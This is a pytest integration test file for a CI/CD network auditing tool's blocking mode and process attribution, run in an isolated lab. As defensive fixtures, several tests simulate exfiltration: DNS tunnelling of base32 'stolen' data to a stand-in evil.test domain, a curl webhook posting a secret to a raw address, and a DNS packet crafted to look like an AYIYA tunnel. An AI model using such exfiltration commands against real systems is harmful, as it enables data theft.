"""Blocking mode and process attribution, live, in a lab of their own
(cicd_audit.lab): the recorder's socket hooks sit on the lab's cgroup, TC on
the client's veth; dnsmasq in the server namespace resolves *.example.test
to the server, and a second server address (OTHER_V4/OTHER_V6) is reachable
only by raw address.

What blocking must do, each asserted on what the clients saw and on the logs:
an allowed name connects on the first attempt; a raw address, an unlisted
name and a tunnel through it get nothing through; each refusal is a
notice.log row naming the process, and a conn.log row marked blocked.
"""

from __future__ import annotations

import re
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cicd_audit.lab import CICD_AUDIT, DNS_NAME, HTTP_PORT, OTHER_V4, OTHER_V6, V4, V6
from cicd_audit.zeeklog.reader import read_log

pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]

POLICY = "allowed:\n  domains: [www.example.test, \"*.cdn.example.test\"]\n"
CURL = ["curl", "-s", "-o", "/dev/null", "--max-time", "5", "-w", "%{http_code} %{time_connect} %{time_total}"]
DIG = ["dig", "+short", "+tries=1", "+time=1"]


def rows(out: Path, path: str) -> list[dict]:
    return list(read_log(out / f"{path}.log")[1])


@pytest.fixture
def policy(tmp_path) -> Path:
    p = tmp_path / "policy.yml"
    p.write_text(POLICY)
    return p


def record_block(lab, out: Path, policy: Path, script: str, *extra: str):
    lab.start_dnsmasq()
    lab.start_http()
    return lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1], *extra)


def test_allowed_name_connects_at_once_and_the_rest_is_refused(lab, tmp_path, policy):
    out = tmp_path / "logs"
    script = "; ".join([
        f"echo allowed $({shlex.join(CURL)} http://{DNS_NAME}:{HTTP_PORT}/)",
        f"echo allowed6 $({shlex.join(CURL)} -6 http://{DNS_NAME}:{HTTP_PORT}/)",
        f"echo raw $({shlex.join(CURL)} http://{OTHER_V4}:{HTTP_PORT}/)",
        f"echo raw6 $({shlex.join(CURL)} http://[{OTHER_V6}]:{HTTP_PORT}/)",
        "echo unlisted $(dig +tries=1 +time=1 evil.example.test | grep -oE 'status: [A-Z]+|Query time: [0-9]+')",
        f"echo tcpdns $({shlex.join(DIG)} +tcp www.example.test)",
    ])
    r = record_block(lab, out, policy, script)
    assert r.returncode == 0, r.stderr
    seen = dict(line.split(" ", 1) for line in r.stdout.strip().splitlines())
    code, connect, _ = seen["allowed"].split()
    assert code == "200"
    assert float(connect) < 0.5, "the first connect to a just-resolved allowed name must not wait for a SYN retry"
    assert seen["allowed6"].split()[0] == "200"
    for raw in ("raw", "raw6"):
        code, _, total = seen[raw].split()
        assert code == "000" and float(total) < 0.5, f"{raw}: refused at connect(), not timed out: {seen[raw]}"
    status, query_ms = re.fullmatch(r"status: (\w+) Query time: (\d+)", seen["unlisted"]).groups()
    assert status == "NXDOMAIN", "an unlisted name is answered NXDOMAIN by the recorder"
    assert int(query_ms) < 100, "the refusal is immediate, not a resolver timeout"
    assert seen["tcpdns"].strip() == V4[1], "DNS over TCP for an allowed name works"

    notices = rows(out, "notice")
    by_note = {}
    for n in notices:
        by_note.setdefault(n["note"], []).append(n)
    refused = {(n["id.resp_h"], n["id.resp_p"]) for n in by_note["CicdAudit::Blocked_Connection"]}
    assert refused == {(OTHER_V4, HTTP_PORT), (OTHER_V6, HTTP_PORT)}
    assert all(n["proc.name"] == "curl" and n["proc.pid"] for n in by_note["CicdAudit::Blocked_Connection"])
    dns_notes = by_note["CicdAudit::Blocked_DNS_Query"]
    assert {n["sub"] for n in dns_notes} == {"evil.example.test"}
    assert all(n["proc.exe"] in (None, "/usr/bin/dig") for n in dns_notes)

    refused = [d for d in rows(out, "dns") if d["query"] == "evil.example.test"]
    assert [(d["rcode_name"], d["answers"]) for d in refused] == [("NXDOMAIN", None)]

    conns = rows(out, "conn")
    blocked = [c for c in conns if c["blocked"]]
    assert {(c["id.resp_h"], c["id.resp_p"]) for c in blocked} >= {(OTHER_V4, HTTP_PORT), (OTHER_V6, HTTP_PORT)}
    web = [c for c in conns if c["id.resp_p"] == HTTP_PORT and c["id.resp_h"] in (V4[1], V6[1])]
    assert web and all(not c["blocked"] and c["conn_state"] == "SF" for c in web)
    stats = rows(out, "capture_stats")[0]
    assert stats["blocked_connects"] == 2
    assert stats["blocked_dns"] >= 1
    assert stats["addrs_learnt"] >= 2          # the A and the AAAA answer


def test_tunnel_and_webhook_to_unlisted_destinations_move_no_data(lab, tmp_path, policy):
    """An exfiltration attempt through DNS (queries under an unlisted domain, via the
    allowed resolver and straight to the attacker's server) and over HTTP to a raw
    address: the attacker's servers receive nothing."""
    sink = lab.udp_sink(OTHER_V4, 53)
    secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
    script = "; ".join([
        *[f"dig +short +tries=1 +time=1 {secret}{i}.t.evil.test >/dev/null" for i in range(3)],
        f"dig +short +tries=1 +time=1 @{OTHER_V4} {secret}.t.evil.test >/dev/null; echo direct $?",
        f"curl -s -o /dev/null --max-time 3 --resolve hook.evil.test:{HTTP_PORT}:{OTHER_V4} "
        f"-d secret={secret} http://hook.evil.test:{HTTP_PORT}/upload; echo webhook $?",
    ])
    r = record_block(lab, tmp_path / "logs", policy, script)
    assert r.returncode == 0, r.stderr
    assert "webhook 7" in r.stdout, r.stdout       # curl: could not connect
    assert "direct 9" in r.stdout, r.stdout        # dig: no server reachable
    assert sink.stop() == [], "the attacker's DNS server received tunnel data"
    notes = rows(tmp_path / "logs", "notice")
    tunnel = [n for n in notes if n["note"] == "CicdAudit::Blocked_DNS_Query"]
    assert sorted(n["sub"] for n in tunnel) == [f"{secret.lower()}{i}.t.evil.test" for i in range(3)]
    assert any(n["id.resp_h"] == OTHER_V4 and n["id.resp_p"] == 53 for n in notes)
    assert any(n["id.resp_h"] == OTHER_V4 and n["id.resp_p"] == HTTP_PORT and n["proc.name"] == "curl"
               for n in notes)


def test_connections_name_their_process(lab, tmp_path):
    """Without blocking: TCP from curl, and UDP sent unconnected from Python, carry
    their process and its executable."""
    lab.start_dnsmasq()
    lab.start_http()
    script = (f"/usr/bin/curl -s -o /dev/null http://{V4[1]}:{HTTP_PORT}/ & echo curl $!; wait; "
              f"exec {sys.executable} -c \"import socket,os,time; print('py', os.getpid(), flush=True); "
              f"s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'x'*9, ('{V4[1]}', 9999)); "
              f"time.sleep(0.2)\"")
    out = tmp_path / "logs"
    r = lab.record(out, ["sh", "-c", script])
    assert r.returncode == 0, r.stderr
    pids = {k: int(v) for k, v in (line.split() for line in r.stdout.split("\n") if line.strip())}
    conns = rows(out, "conn")
    web = next(c for c in conns if c["id.resp_p"] == HTTP_PORT)
    assert (web["proc.pid"], web["proc.name"], web["proc.exe"]) == (pids["curl"], "curl", "/usr/bin/curl")
    assert web["proc.cgroup"] == "/" + lab.cgroup.name
    assert web["proc.cmdline"] is None, "command lines are kept only with --process-args"
    udp = next(c for c in conns if c["id.resp_p"] == 9999)
    assert udp["proc.pid"] == pids["py"]
    assert udp["proc.exe"] == str(Path(sys.executable).resolve())


def test_a_process_gone_before_the_recorder_looks_still_names_its_executable(lab, tmp_path):
    """curl connects and exits while the recorder is stopped (SIGSTOP from the job, its
    parent), so /proc has forgotten it when its process event is handled: the
    executable comes from the exec hooks' map."""
    lab.start_http()
    script = (f"kill -STOP $PPID; /usr/bin/curl -s -o /dev/null http://{V4[1]}:{HTTP_PORT}/ & echo curl $!; "
              "wait; kill -CONT $PPID")
    out = tmp_path / "logs"
    r = lab.record(out, ["sh", "-c", script])
    assert r.returncode == 0, r.stderr
    curl = int(r.stdout.split()[1])
    web = next(c for c in rows(out, "conn") if c["id.resp_p"] == HTTP_PORT)
    assert (web["proc.pid"], web["proc.name"], web["proc.exe"]) == (curl, "curl", "/usr/bin/curl")


def test_nothing_stays_attached_after_exit_or_kill(lab, tmp_path, policy):
    lab.start_dnsmasq()
    lab.start_http()
    raw = [*CURL, f"http://{OTHER_V4}:{HTTP_PORT}/"]
    assert lab.record(tmp_path / "a", ["true"], "--block", "--policy", str(policy), "--resolver", V4[1]).returncode == 0
    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200"
    proc = lab.popen(lab.client_ns, lab.record_argv(tmp_path / "b", None, "--block", "--policy", str(policy),
                                                    "--resolver", V4[1]),
                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    _wait_blocking(lab, raw, proc)
    proc.send_signal(signal.SIGKILL)
    proc.wait(10)
    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200", "a killed recorder kept blocking"
    assert lab.tc_filters() == ""


def test_fail_closed_outlives_a_kill_until_cleanup(lab, tmp_path, policy):
    lab.start_dnsmasq()
    lab.start_http()
    raw = [*CURL, f"http://{OTHER_V4}:{HTTP_PORT}/"]
    proc = lab.popen(lab.client_ns, lab.record_argv(tmp_path, None, "--block", "--policy", str(policy),
                                                    "--resolver", V4[1], "--fail-closed"),
                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        _wait_blocking(lab, raw, proc)
        proc.send_signal(signal.SIGKILL)
        proc.wait(10)
        assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "000", "--fail-closed let go"
    finally:
        c = lab.run(lab.client_ns, [CICD_AUDIT, "cleanup"])
    assert c.returncode == 0, c.stderr
    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200"
    assert lab.tc_filters() == ""


def _wait_blocking(lab, raw: list[str], recorder: subprocess.Popen, timeout: float = 30) -> None:
    """Until the raw address is refused; a recorder that ended or never blocked says why."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "000":
            return
        if recorder.poll() is not None:
            raise AssertionError(f"the recorder ended ({recorder.returncode}) before blocking: {recorder.stderr.read()}")
        time.sleep(0.2)
    recorder.kill()
    raise AssertionError(f"blocking never became active in {timeout:.0f} s; the recorder said: {recorder.communicate()[1]}")


# A DNS query whose first bytes read as AYIYA (Zeek's content test: bytes 1-2 = 52 11):
# id 0x4152, flags 0x1100, one question for smuggled.evil.test, type A.
AYIYA_LOOKING_QUERY = ("import socket; q = bytes.fromhex('41521100000100000000000008736d7567676c6564046576696c0474657374"
                       "0000010001'); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); "
                       "s.sendto(q, ('{server}', 53)); print('answered', len(s.recv(512)))")


def test_a_query_that_looks_like_a_tunnel_is_still_judged_by_its_name(lab, tmp_path, policy):
    """Content that Zeek's detection reads as AYIYA must not turn a job's DNS query into a
    tunnel whose packets pass on the inner packet's verdict."""
    send = AYIYA_LOOKING_QUERY.format(server=V4[1])
    r = record_block(lab, tmp_path / "logs", policy, f"{sys.executable} -c \"{send}\"; echo sent $?")
    assert r.returncode == 0, r.stderr
    assert "answered" not in r.stdout, r.stdout
    notes = rows(tmp_path / "logs", "notice")
    assert [n["sub"] for n in notes if n["note"] == "CicdAudit::Blocked_DNS_Query"] == ["smuggled.evil.test"]
